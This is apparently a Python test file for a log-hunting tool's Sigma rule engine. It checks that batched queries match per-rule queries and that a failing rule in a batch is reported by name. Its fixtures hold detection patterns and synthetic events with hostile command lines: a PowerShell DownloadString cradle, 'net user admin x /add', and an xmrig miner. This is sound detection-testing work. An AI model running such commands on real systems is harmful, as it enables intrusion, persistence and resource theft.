"""Sigma rules of one route run in one scan: the findings must be those of one query per rule."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from deminer.case import Case
from deminer.detect.sigma import run as sigma_run
from deminer.detect.sigma.loader import ConvertedRule, SigmaSet, load
from deminer.detect.sigma.run import SigmaRun, execute
from tests.detect import sigma_gen as g

RULES = {
    "enc.yml": g.rule("sel: {CommandLine|contains: ['-enc', 'hidden']}", title="Encoded"),
    "parent.yml": g.rule(r"""
        sel: {ParentImage|endswith: '\cmd.exe'}
        filter: {Image|endswith: '\conhost.exe'}
        condition: sel and not filter""", title="Child of cmd"),
    "all.yml": g.rule("sel: {CommandLine|contains|all: ['iex', 'webclient']}", title="Cradle"),
    "image.yml": g.rule(r"sel: {Image|endswith: ['\xmrig.exe', '\svchost.exe']}", title="Image"),
    "user.yml": g.rule(r"sel: {User: 'CORP\alice', CommandLine|startswith: 'net '}", title="Net"),
    "never.yml": g.rule("sel: {CommandLine|contains: 'no such text anywhere'}", title="Never"),
    "script.yml": g.rule("sel: {ScriptBlockText|contains: 'DownloadString'}",
                         "{product: windows, category: ps_script}", "Script"),
    "logon.yml": g.rule("sel: {EventID: 4625, TargetUserName: [admin, administrator]}",
                        "{product: windows, service: security}", "Failed admin"),
}


def _events() -> list[dict[str, Any]]:
    rows = [
        g.proc(r"C:\Windows\System32\powershell.exe", "powershell -enc SQBFAFgA", seconds=1),
        g.proc(r"C:\Windows\System32\powershell.exe", "powershell -w hidden iex webclient", seconds=2),
        g.proc(r"C:\Windows\System32\conhost.exe", "conhost 0xffffffff", parent=r"C:\Windows\cmd.exe"),
        g.proc(r"C:\Windows\Temp\svchost.exe", "svchost -o pool:3333", parent=r"C:\Windows\cmd.exe",
               seconds=3),
        g.proc(r"C:\Users\bob\xmrig.exe", "xmrig", host="win2", seconds=4),
        g.proc(r"C:\Windows\System32\net.exe", "net user admin x /add", seconds=5),
        g.proc(r"C:\Windows\System32\net.exe", "net user guest y /add", seconds=6),
        g.script("(New-Object Net.WebClient).DownloadString('http://x/a.ps1')"),
    ]
    rows += [g.failed_logon("10.0.0.9", user, seconds=i) for i, user in
             enumerate(["admin", "administrator", "bob", "admin"])]
    return rows


def _key(run: SigmaRun) -> list[tuple[Any, ...]]:
    return sorted((f.rule, f.host, f.entity, f.summary, str(f.ts), f.evidence.get("count"))
                  for f in run.findings)


def test_batched_findings_equal_one_query_per_rule(tmp_path: Path) -> None:
    rules = load([g.write_rules(tmp_path / "r", RULES)])
    assert not rules.problems
    with Case(None) as case:
        case.add("events", _events())
        batched = execute(case, rules)
        alone = SigmaRun()
        for rule in rules.rules:
            sigma_run._run_one(case, rule, alone)
    assert _key(batched) == _key(alone)
    titles = {f.title for f in batched.findings}
    assert titles == {"Encoded", "Child of cmd", "Cradle", "Image", "Net", "Script", "Failed admin"}
    assert len(batched.timings) == len(rules.rules)


def test_a_rule_that_fails_in_a_batch_is_named_and_the_others_still_fire(tmp_path: Path) -> None:
    rules = load([g.write_rules(tmp_path / "r", {"enc.yml": RULES["enc.yml"],
                                                 "image.yml": RULES["image.yml"]})])
    route = rules.rules[0].route
    broken = ConvertedRule("execution.broken", "Broken", "high", (), None, "broken.yml",
                           "SELECT no_such_column FROM events", False, 0.0,
                           route=route, where="no_such_column = 1")
    with Case(None) as case:
        case.add("events", _events())
        run = execute(case, SigmaSet(rules=[rules.rules[0], broken, rules.rules[1]]))
    assert [(p.kind, p.path) for p in run.problems] == [("query", "broken.yml")]
    assert {f.title for f in run.findings} == {"Encoded", "Image"}


def test_batches_are_cut_at_the_batch_size(tmp_path: Path, monkeypatch: Any) -> None:
    monkeypatch.setattr(sigma_run, "BATCH_RULES", 2)
    rules = load([g.write_rules(tmp_path / "r", RULES)])
    with Case(None) as case:
        case.add("events", _events())
        small = execute(case, rules)
        monkeypatch.setattr(sigma_run, "BATCH_RULES", 64)
        big = execute(case, rules)
    assert _key(small) == _key(big) and small.findings


def test_lowered_fields_are_hoisted_but_literals_are_left_alone() -> None:
    from deminer.detect.sigma.batch import _hoist_lower
    conds = ["contains(lower(coalesce(\"_f1\", \"command\")), 'x''lower(y)') OR lower(\"user\") = 'a'",
             "starts_with(lower(CAST(x AS VARCHAR)), 'lower(') AND flower(z) AND \"lower(q)\" = 1",
             "ends_with(lower(\"user\"), ')')"]
    out, exprs = _hoist_lower(conds)
    assert exprs == ['coalesce("_f1", "command")', '"user"', "CAST(x AS VARCHAR)"]
    assert out == ["contains(\"_l0\", 'x''lower(y)') OR \"_l1\" = 'a'",
                   "starts_with(\"_l2\", 'lower(') AND flower(z) AND \"lower(q)\" = 1",
                   "ends_with(\"_l1\", ')')"]


def test_case_insensitive_shapes_use_plain_string_functions() -> None:
    from sigma.types import SigmaString

    from deminer.detect.sigma.backend import string_match
    assert string_match("x", SigmaString("*MiMi*"), cased=False) == "contains(lower(x), 'mimi')"
    assert string_match("x", SigmaString("C:\\Win*"), cased=False) == "starts_with(lower(x), 'c:\\win')"
    assert string_match("x", SigmaString("*.EXE"), cased=False) == "ends_with(lower(x), '.exe')"
    assert string_match("x", SigmaString("Cmd.exe"), cased=False) == "lower(x) = 'cmd.exe'"
    assert string_match("x", SigmaString("a*b?c"), cased=False) == "lower(x) LIKE 'a%b_c' ESCAPE '\\'"
    assert string_match("x", SigmaString("50%*"), cased=False) == "starts_with(lower(x), '50%')"
